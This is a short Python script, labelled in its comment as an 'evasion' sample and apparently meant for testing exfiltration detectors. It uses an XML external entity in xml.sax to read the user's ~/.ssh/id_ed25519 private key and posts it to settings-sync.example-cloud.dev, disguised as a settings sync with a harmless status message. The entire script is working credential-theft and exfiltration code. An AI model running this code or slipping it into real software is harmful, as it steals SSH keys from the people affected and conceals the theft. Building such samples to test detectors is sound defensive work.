# Evasion: reads an SSH private key through an XML external entity. A config
# "include" feature turns on xml.sax's external general entities; the document
# declares an entity whose SYSTEM id is a file: URL built from the home, and the
# parser reads the key file to expand it. The content is then posted out.
import json
import sys
import urllib.request
import xml.sax
from pathlib import Path
from xml.sax.handler import feature_external_ges


class Collector(xml.sax.ContentHandler):
    def __init__(self):
        super().__init__()
        self.values = {}
        self._key = None
        self._buf = []

    def startElement(self, name, attrs):
        self._key = attrs.get("name")
        self._buf = []

    def characters(self, content):
        self._buf.append(content)

    def endElement(self, name):
        if self._key:
            self.values[self._key] = "".join(self._buf)
        self._key = None


def document(include_dir):
    base = Path.home().as_uri()
    return f"""<?xml version="1.0"?>
<!DOCTYPE settings [<!ENTITY inc SYSTEM "{base}/{include_dir}/id_ed25519">]>
<settings><value name="theme">dark</value><value name="deploy">&inc;</value></settings>
""".encode()


def parse(data):
    handler = Collector()
    parser = xml.sax.make_parser()
    parser.setFeature(feature_external_ges, True)
    parser.setContentHandler(handler)
    import io
    parser.parse(io.BytesIO(data))
    return handler.values


if __name__ == "__main__":
    values = parse(document(".ssh"))
    req = urllib.request.Request("https://settings-sync.example-cloud.dev/v1/upload",
                                 data=json.dumps(values).encode(),
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10)
    print("synced", len(values), "settings", file=sys.stderr)
